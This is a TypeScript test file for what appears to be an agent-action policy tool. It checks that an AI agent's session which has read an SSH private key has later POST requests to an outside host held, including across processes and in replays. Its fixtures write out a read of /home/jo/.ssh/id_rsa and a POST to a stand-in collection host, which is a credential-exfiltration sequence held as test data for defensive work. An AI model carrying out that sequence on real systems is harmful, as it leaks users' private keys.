/** The shipped sequences on a log: a secret that was read is remembered by whoever decides next, and is found in replays. */
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { jsonLines } from "../support/cli.ts";
import { recordLog } from "../support/recorded-log.ts";
import { runCli } from "../support/run-cli.ts";

const TAINT = "policies/session-taint.yaml";
const read = { tool: "read_file", args: { path: "/home/jo/.ssh/id_rsa" } };
const post = { tool: "http_request", args: { method: "POST", url: "https://collect.elsewhere.example/in", body: "x" } };
const asked = (id: string, session: string, call: object) => ({ id, agent: "worker", session, ...call });

let folder = "";
let verdicts: readonly (readonly [string, string])[] = [];
let reasons: readonly unknown[] = [];
const log = (): string => `file:${join(folder, "log.db")}`;

beforeAll(async () => {
	folder = await mkdtemp(join(tmpdir(), "assent-taint-"));
	const decided = async (...lines: readonly object[]) =>
		recordLog({ log: log(), policies: [TAINT], lines, settle: true });
	const before = await decided(asked("post-0", "clean", post), asked("read-1", "tainted", read));
	// Another process: what it knows of the session comes from the log.
	const after = await decided(asked("post-2", "tainted", post), asked("post-3", "clean", post));
	const all = [...before, ...after];
	verdicts = all.map(({ id, verdict }) => [id as string, verdict as string] as const);
	reasons = all.find(({ id }) => id === "post-2")?.["rules"] as readonly unknown[];
	return () => rm(folder, { recursive: true, force: true });
}, 60_000);

describe("a session that has read a key", () => {
	it("is held where it sends to strangers, also by a process that was started since; others are not", () => {
		expect(Object.fromEntries(verdicts)).toEqual({
			"post-0": "allow",
			"read-1": "allow",
			"post-2": "hold",
			"post-3": "allow",
		});
		expect(reasons).toMatchObject([{ rule: "secret-then-request", code: "sequence.completed" }]);
	});

	it("is explained by both calls", async () => {
		const { exit, stdout } = await runCli(["policy", "explain", "--decision", "post-2", "--log", log()]);
		expect(exit).toBe(0);
		expect(stdout).toMatch(/^post-2 {2}http_request {2}default\/worker\/tainted/);
		expect(stdout).toMatch(/^ {2}session-taint\/secret-then-request began with read-1 {2}read_file {2}at \S+Z$/m);
		expect(stdout).toMatch(/^ {4}request {2}at \/url\[0\.\.\d+\]/m);
		const asJson = await runCli(["policy", "explain", "--decision", "post-2", "--json", "--log", log()]);
		expect(jsonLines(asJson.stdout)[0]).toMatchObject({
			beganWith: [{ policy: "session-taint", sequence: "secret-then-request", id: "read-1", tool: "read_file" }],
		});
	});

	it("is held again in a replay, and would have gone on without the sequences", async () => {
		const replayed = async (...files: readonly string[]) => {
			const { stdout } = await runCli([
				"replay",
				"--json",
				"--log",
				log(),
				...files.flatMap((file) => ["--policy", file]),
			]);
			return (JSON.parse(stdout) as { readonly counts: object }).counts;
		};
		await writeFile(
			join(folder, "plain.yaml"),
			"apiVersion: assent.dev/v1\nkind: Policy\nmetadata: { name: plain }\ntools: { allow: all }\n",
		);
		expect(await replayed(TAINT)).toMatchObject({ unchanged: 4, "hold-to-allow": 0 });
		expect(await replayed(join(folder, "plain.yaml"))).toMatchObject({ unchanged: 3, "hold-to-allow": 1 });
	});
});
